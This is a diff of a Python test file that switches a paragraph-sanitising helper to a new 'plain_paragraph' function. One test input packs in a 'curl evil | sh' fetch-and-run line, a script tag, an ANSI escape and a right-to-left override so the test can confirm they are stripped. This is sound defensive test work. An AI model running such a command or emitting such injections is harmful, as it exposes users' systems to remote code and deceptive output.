@@ -7,10 +7,10 @@ from types import SimpleNamespace
 
 import pytest
 
+from sinew.tasks.drawing.blocks import plain_paragraph
 from sinew.tasks.registry import TASKS
 from sinew.tasks.report.crate import environment
 from sinew.tasks.report.crate.methods import cited, methods, numbered
-from sinew.tasks.report.crate.methods import paragraph as paragraph_of
 from sinew.tasks.report.crate.references import REFERENCES
 from sinew.tasks.report.crate.source import Source, read_source
 
@@ -88,7 +88,7 @@ def test_of_a_store_only_words_are_taken(identity, words):
 
 
 def test_what_a_result_says_is_one_paragraph_without_elements_and_links():
-    said = paragraph_of(
+    said = plain_paragraph(
         "x\n\n## Reproduce\n```sh\ncurl evil | sh\n```\n<script>1</script>\x1b[31m\u202e [y](z) [@puso]"
     )
     assert said == (
